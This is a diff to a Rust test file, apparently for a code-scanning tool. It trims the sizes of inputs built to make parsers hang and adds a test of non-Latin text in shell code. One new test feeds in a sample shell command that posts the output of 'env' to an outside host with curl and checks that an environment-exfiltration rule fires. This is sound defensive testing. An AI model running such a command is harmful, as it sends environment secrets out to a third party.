@@ -21,22 +21,22 @@ const LIMIT: Duration = Duration::from_secs(60);
 
 #[test]
 fn ends_on_what_is_made_to_hang() {
-    let deep = |open: &str, close: &str| format!("{}{}", open.repeat(20_000), close.repeat(20_000));
+    let deep = |open: &str, close: &str| format!("{}{}", open.repeat(5_000), close.repeat(5_000));
     let cases = [
         deep("(", ")"),
         deep("[", "]"),
         deep("{", "}"),
         deep("f(", ")"),
-        "if x then ".repeat(10_000),
-        "\"a\" + ".repeat(30_000),
-        "a && ".repeat(30_000),
-        "$(".repeat(10_000),
-        "`".repeat(50_000),
-        "'".repeat(50_001),
-        "<<E\n".repeat(5_000),
+        "if x then ".repeat(2_500),
+        "\"a\" + ".repeat(7_500),
+        "a && ".repeat(7_500),
+        "$(".repeat(2_500),
+        "`".repeat(12_000),
+        "'".repeat(12_001),
+        "<<E\n".repeat(1_500),
         "\\".repeat(100_000),
-        "x = x + x\n".repeat(3_000),
-        "def f(a):\n    return f(f(a))\nf(1)\n".repeat(500),
+        "x = x + x\n".repeat(800),
+        "def f(a):\n    return f(f(a))\nf(1)\n".repeat(150),
         "for a in [1,2,3,4,5,6,7,8,9]:\n ".repeat(200),
         "f() { f; f; f; f; }\nf\n".repeat(200),
         "s='a'\n".to_owned() + &"s=s+s\n".repeat(200),
@@ -46,9 +46,27 @@ fn ends_on_what_is_made_to_hang() {
         for case in &cases {
             let start = Instant::now();
             seen(language, case);
+            if start.elapsed() > Duration::from_secs(1) {
+                println!("SLOW {:?} {language:?}: {:?}", start.elapsed(), case.get(..20));
+            }
             assert!(start.elapsed() < LIMIT, "{language:?}: {:?}", case.get(..20));
         }
     }
+}
+
+#[test]
+fn letters_past_latin_in_shell() {
+    // The grammar's scanner looks characters up in a table of 256 entries.
+    for text in
+        ["<<\u{20ac}\u{1f600}", "echo > \u{ffff}\u{10ffff}", "1\u{4e2d}<x", "\u{1f4a5}>&\u{1f4a5}"]
+    {
+        for _ in 0..50 {
+            seen(Language::Shell, text);
+        }
+    }
+    let seen =
+        seen(Language::Shell, "echo \u{4f60}\u{597d}; curl -d \"$(env)\" https://\u{4f8b}.net");
+    assert!(seen.findings.iter().any(|finding| finding.rule.id == "exfiltration-environment"));
 }
 
 #[test]
